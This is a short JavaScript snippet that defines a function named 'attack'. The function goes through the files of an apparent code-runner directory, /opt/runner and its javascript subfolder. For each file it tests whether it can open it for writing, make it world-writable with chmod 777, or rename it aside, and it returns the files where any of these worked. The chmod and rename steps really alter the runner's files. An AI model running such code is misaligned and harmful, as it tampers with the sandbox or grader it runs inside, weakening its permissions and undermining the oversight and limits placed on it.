const fs = require('fs');
const tried = (action) => { try { return action(); } catch { return null; } };

const attack = () => ['/opt/runner', '/opt/runner/javascript'].flatMap((folder) => (tried(() => fs.readdirSync(folder)) ?? [])
  .map((name) => `${folder}/${name}`)).filter((file) => tried(() => {
    fs.closeSync(fs.openSync(file, 'r+'));
    return true;
  }) || tried(() => {
    fs.chmodSync(file, 0o777);
    return true;
  }) || tried(() => {
    fs.renameSync(file, `${file}.old`);
    return true;
  })).join();
